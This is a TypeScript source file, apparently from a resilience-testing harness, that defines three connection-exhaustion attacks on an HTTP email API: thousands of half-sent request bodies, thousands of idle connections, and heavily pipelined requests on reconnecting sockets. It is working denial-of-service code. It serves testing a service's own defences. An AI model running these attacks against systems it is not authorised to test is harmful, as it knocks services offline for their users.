import { connect } from 'node:net'
import type { Attack, AttackClient } from '../attack.ts'

// Attacks by connections that are idle, incomplete or full of requests.

const HALF_SENT = 2000

export const halfSentBodies: Attack = {
  name: 'half-sent-bodies',
  title: '2 000 requests whose bodies stop in the middle',
  build(client) {
    return () =>
      openAll(client, HALF_SENT, (key) => {
        const body = `{"from":"${'a'.repeat(10_000)}`
        return `POST /v1/emails HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${key}\r\nContent-Length: 1000000\r\n\r\n${body}`
      })
  },
}

/** Opens connections, writes a text on each, and keeps them open until the time is over. */
async function openAll(client: AttackClient, count: number, text: (key: string) => string) {
  const closed: Promise<void>[] = []
  const sockets = Array.from({ length: count }, (_, n) => {
    const { key = '' } = client.attackers[n % client.attackers.length] ?? {}
    const socket = connect(client.port, client.host)
    socket.on('error', () => undefined)
    socket.once('connect', () => socket.write(text(key)))
    let result = 'closed'
    socket.once('data', (chunk) => {
      result = `${chunk.toString('latin1').slice(9, 12)}, then closed`
    })
    closed.push(
      new Promise((resolve) => {
        socket.once('close', () => {
          client.note(client.isOver() ? 'held' : result)
          resolve()
        })
      }),
    )
    return socket
  })
  await client.over
  for (const socket of sockets) socket.destroy()
  await Promise.all(closed)
}

const IDLE = 5000

export const idleConnections: Attack = {
  name: 'idle-connections',
  title: '5 000 idle connections',
  isKeyless: true,
  build: (client) => () => openAll(client, IDLE, () => ''),
}

const PIPELINED_CONNECTIONS = 100
const PIPELINED_REQUESTS = 4000

export const pipelinedRequests: Attack = {
  name: 'pipelined-requests',
  title: '4 000 requests at once on each of 100 connections, reconnecting when they close',
  isKeyless: true,
  build(client) {
    const text = 'GET / HTTP/1.1\r\n\r\n'.repeat(PIPELINED_REQUESTS)
    const lane = async () => {
      while (!client.isOver()) await sendRaw(client, text)
    }
    return async () => {
      await Promise.all(Array.from({ length: PIPELINED_CONNECTIONS }, lane))
    }
  },
}

/** Writes a text on a new connection, and waits until it closes or the time is over. */
async function sendRaw(client: AttackClient, text: string): Promise<void> {
  const socket = connect(client.port, client.host)
  socket.on('error', () => undefined)
  socket.end(text)
  socket.resume()
  void client.over.then(() => socket.destroy())
  // Not once() of node:events, which rejects when the connection is reset.
  await new Promise((resolve) => socket.once('close', resolve))
  client.note('closed')
}
